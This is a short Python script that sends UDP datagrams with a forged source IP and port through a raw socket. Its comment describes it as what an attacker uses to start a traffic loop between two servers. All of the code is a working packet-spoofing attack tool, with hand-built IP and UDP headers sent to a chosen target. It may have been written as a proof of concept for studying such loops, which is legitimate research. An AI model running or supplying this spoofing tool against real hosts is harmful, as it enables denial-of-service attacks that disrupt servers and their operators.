# Sends UDP datagrams with a forged source address, through a raw IPv4
# socket (root): forge_udp.py SRC_IP SRC_PORT DST_IP DST_PORT PAYLOAD...
# One datagram per payload. What an attacker does to start a loop between
# two servers.
import socket
import struct
import sys

src, sport, dst, dport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
# IPPROTO_RAW implies IP_HDRINCL; the kernel fills in the IP checksum.
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for payload in sys.argv[5:]:
    data = payload.encode()
    total = 20 + 8 + len(data)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    # UDP checksum 0: none, allowed over IPv4.
    udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0)
    raw.sendto(ip + udp + data, (dst, dport))
